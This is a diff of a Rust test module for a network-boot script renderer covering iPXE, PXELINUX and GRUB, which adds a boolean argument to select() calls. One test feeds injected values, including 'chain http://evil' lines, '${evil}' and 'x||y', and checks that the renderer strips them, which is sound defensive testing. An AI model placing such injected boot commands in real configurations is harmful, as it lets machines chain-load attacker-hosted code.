@@ -144,7 +144,7 @@ mod tests {
 
     #[test]
     fn unknown_machine_gets_kernel_overlay_and_initrd_from_here() {
-        let text = render(&select(None), Format::Ipxe, &place());
+        let text = render(&select(None, false), Format::Ipxe, &place());
         assert!(text.starts_with("#!ipxe\n# discover\n"), "{text}");
         assert!(text.contains(
             "http://10.0.0.1/genesis/vmlinuz initrd=overlay initrd=initrd margay.sn=10.0.0.1:3002"
@@ -161,8 +161,8 @@ mod tests {
     fn other_ports_stand_in_every_address() {
         let place = Place { http_port: 8080, ..place() };
         for format in [Format::Ipxe, Format::Pxelinux, Format::Grub] {
-            let text = render(&select(None), format, &place);
-            assert_eq!(text.matches("10.0.0.1:8080").count() >= 3, true, "{text}");
+            let text = render(&select(None, false), format, &place);
+            assert!(text.matches("10.0.0.1:8080").count() >= 3, "{text}");
         }
     }
 
@@ -172,7 +172,7 @@ mod tests {
         for (format, word) in
             [(Format::Ipxe, "sanboot"), (Format::Pxelinux, "LOCALBOOT"), (Format::Grub, "exit")]
         {
-            let text = render(&select(Some(&n)), format, &place());
+            let text = render(&select(Some(&n), false), format, &place());
             assert!(text.contains(word) && !text.contains("vmlinuz"), "{text}");
         }
     }
@@ -184,7 +184,7 @@ mod tests {
             ..node("shell\nchain http://evil", "quiet ${evil} x||y\nchain http://evil/;z")
         };
         for format in [Format::Ipxe, Format::Pxelinux, Format::Grub] {
-            let text = render(&select(Some(&n)), format, &place());
+            let text = render(&select(Some(&n), false), format, &place());
             assert!(text.contains(" quiet"), "{text}");
             assert!(!text.contains("${evil}") && !text.contains("x||y"), "{text}");
             assert!(!text.lines().any(|l| l.trim_start().starts_with("chain http://evil")), "{text}");
@@ -195,7 +195,7 @@ mod tests {
     fn arguments_of_service_node_and_node_follow_ours() {
         let extra = [Argument::new("no_timer_check").unwrap()];
         let n = node("shell", "debug");
-        let text = render(&select(Some(&n)), Format::Ipxe, &Place { arguments: &extra, ..place() });
+        let text = render(&select(Some(&n), false), Format::Ipxe, &Place { arguments: &extra, ..place() });
         assert!(text.contains("console=ttyS0,115200 no_timer_check debug"), "{text}");
     }
 }
